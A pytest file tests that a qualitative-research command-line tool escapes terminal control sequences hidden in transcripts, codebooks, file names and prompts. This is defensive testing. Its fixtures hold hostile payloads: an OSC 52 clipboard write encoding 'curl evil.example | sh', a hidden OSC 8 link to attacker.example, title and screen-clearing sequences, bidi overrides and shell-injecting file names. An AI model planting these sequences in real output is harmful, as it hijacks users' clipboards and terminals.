"""Terminals render what they receive: control sequences in the data are shown, never executed.

Payloads from the attack pass: write the clipboard (OSC 52), set the window title, clear the screen,
plant a hidden hyperlink (OSC 8), and the 8-bit CSI (C1) form.
"""

from __future__ import annotations

import io
import shutil
import subprocess
import sys

import pytest
from _hostile import transcript

from wei_qual.cli import app
from wei_qual.console import SafeConsole, echo_data, escape_controls
from wei_qual.controls import CONTROLS
from wei_qual.errors import shell_path
from wei_qual.models import Code, Codebook
from wei_qual.store import open_db, transaction
from wei_qual.store.codebooks import save_codebook_version
from wei_qual.store.transcripts import save_transcript

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[H"
LINK = "\x1b]8;;http://attacker.example\x1b\\click here\x1b]8;;\x1b\\"
CSI8 = "\x9b31m"
PAYLOAD = CLIPBOARD + TITLE + CLEAR + LINK + CSI8
BIDI = "\u202e\u2066"  # right-to-left override, left-to-right isolate


def _raw_controls(text: str) -> list[str]:
    """Control characters a terminal would act on (newline and tab are fine)."""
    return [ch for ch in text if (ord(ch) < 32 and ch not in "\n\t") or 0x7F <= ord(ch) <= 0x9F]


@pytest.fixture
def project(tmp_path):
    path = tmp_path / "study.db"
    db = open_db(path)
    with transaction(db):
        save_transcript(
            db,
            transcript(
                "p1" + TITLE,
                ["We waited." + PAYLOAD, "No beds."],
                {"role": "officer" + CLIPBOARD, "setting": LINK},
                speaker="P" + CLEAR,
            ),
        )
        save_codebook_version(
            db,
            Codebook(
                name="Crisis" + TITLE,
                version="1",
                codes=(Code("wait", "Waiting" + CLIPBOARD), Code("beds", LINK)),
            ),
            "name: x\n",
        )
    db.close()
    return path


def test_escape_controls_shows_them_and_keeps_text():
    assert escape_controls("a\x1b]52;c;x\x07b\tc\nd\x9b\x7f") == "a\\x1b]52;c;x\\x07b\tc\nd\\x9b\\x7f"
    assert escape_controls("Ünïcødé [inaudible] 日本") == "Ünïcødé [inaudible] 日本"
    assert escape_controls("P1\u202e7\u2069 مرحبا") == "P1\\u202e7\\u2069 مرحبا"  # bidi overrides, not Arabic


@pytest.mark.parametrize(
    "args",
    [
        ["transcripts", "list"],
        ["transcripts", "show", "p1" + TITLE],
        ["codebook", "show"],
        ["codebook", "versions"],
    ],
)
def test_listings_show_control_characters_as_escapes(runner, project, args):
    result = runner.invoke(app, [*args, "--db", str(project)], catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    assert _raw_controls(result.stdout) == []
    assert "\\x1b]" in result.stdout  # visible, so the reader sees something odd is in the data


def test_error_lines_escape_file_names(runner, project):
    result = runner.invoke(app, ["decisions", "import", "evil" + CLIPBOARD + ".csv", "--db", str(project)])
    assert result.exit_code == 1
    assert _raw_controls(result.stderr) == []
    assert (
        result.stderr
        == 'Error: File "evil\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07.csv" does not exist. Check the path.\n'
    )


def test_the_coding_screen_escapes_transcript_text_attributes_and_codes(project):
    from wei_qual.cli.code_screen import render_codebook, run_session
    from wei_qual.coding import load_session

    db = open_db(project)
    session, context = load_session(db, "alice")
    buffer = io.StringIO()
    out = SafeConsole(file=buffer, force_terminal=True, width=120, color_system="truecolor")
    answers = iter(["?", "", "q"])  # the codebook until Enter, then the segment again
    run_session(db, session, context, read_line=lambda prompt: next(answers), out=out)
    out.print(render_codebook(session.codebook))
    screen = buffer.getvalue()
    # Rich's own colours are CSI "m" sequences; nothing else may reach the terminal.
    leftovers = screen
    import re

    leftovers = re.sub(r"\x1b\[[0-9;]*m", "", leftovers)  # styles
    leftovers = leftovers.replace("\x1b[2J\x1b[H", "") if out.is_terminal else leftovers  # clear()
    assert _raw_controls(leftovers) == [], repr(leftovers[:200])
    assert "\\x1b]52;c;" in screen and "\\x1b]8;;http://attacker.example" in screen and "\\x9b31m" in screen


def test_data_on_a_terminal_is_escaped_and_in_a_pipe_left_exact(monkeypatch, capsys):
    echo_data("csv," + CLIPBOARD)
    assert capsys.readouterr().out == "csv," + CLIPBOARD + "\n"  # a pipe or file gets the exact data

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    tty = Tty()
    monkeypatch.setattr(sys, "stdout", tty)
    echo_data("csv," + CLIPBOARD)
    assert tty.getvalue() == "csv,\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\n"


def test_prompts_are_escaped(monkeypatch):
    from wei_qual.cli.line_input import read_line

    seen = []
    monkeypatch.setattr("builtins.input", lambda prompt: seen.append(prompt) or "x")
    read_line("Memo on transcript p1" + TITLE + ": ")
    assert seen == ["Memo on transcript p1\\x1b]0;pwned\\x07: "]


@pytest.mark.parametrize(
    "args",
    [
        ["report", "methods"],
        ["report", "methods", "--format", "json"],
        ["project", "export", "{tmp}/out.qdpx", "--format", "json"],
    ],
)
def test_every_data_command_escapes_on_a_terminal(runner, project, tmp_path, monkeypatch, args):
    # report methods and the project's JSON summaries wrote attribute values, codebook names and
    # warnings (a coder name, a source name) to the terminal as they were.
    from typer.testing import _NamedTextIOWrapper

    from wei_qual.models import Decision
    from wei_qual.store.decisions import save_decision

    db = open_db(project)
    for coder in ("alice", "bob" + BIDI):
        save_decision(db, Decision("p1" + TITLE, 1, coder, frozenset({"wait"})))
    db.close()
    monkeypatch.setattr(_NamedTextIOWrapper, "isatty", lambda self: True, raising=False)
    args = [a.replace("{tmp}", str(tmp_path)) for a in args]
    result = runner.invoke(app, [*args, "--db", str(project)], catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    assert _raw_controls(result.stdout) == [] and "\u202e" not in result.stdout
    assert "bob\\u202e\\u2066" in result.stdout  # shown, so the reader sees something odd is there


def test_data_in_a_pipe_keeps_what_looks_like_a_terminal_colour():
    import subprocess

    code = "from wei_qual.console import echo_data; echo_data('a,\\x1b[31mred\\x1b[0m')"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True).stdout
    assert out == b"a,\x1b[31mred\x1b[0m\n"


@pytest.mark.parametrize(
    "name",
    [
        "P01\x1b]0;owned\x07.txt",
        "MOU\u202etxt.md",
        "two\nlines.docx",
        "it's a\ttab\\.txt",
        "-rf \x1b[31m.txt",
        "plain name.txt",
    ],
)
def test_a_suggested_command_names_the_file_when_pasted(name):
    # shell_path wrote '...' with the escape shown in it ('P01\x1b]0;...'): pasted, that names a file
    # with a backslash, an "x", "1" and "b" in it. $'...' names the file itself in bash and zsh.
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("no bash")
    word = shell_path(name)
    assert not CONTROLS.search(word) and "\n" not in word and "\t" not in word
    pasted = subprocess.run([bash, "-c", f"printf %s {word}"], capture_output=True, check=True).stdout
    expected = "./" + name if name.startswith("-") else name
    assert pasted.decode("utf-8") == expected
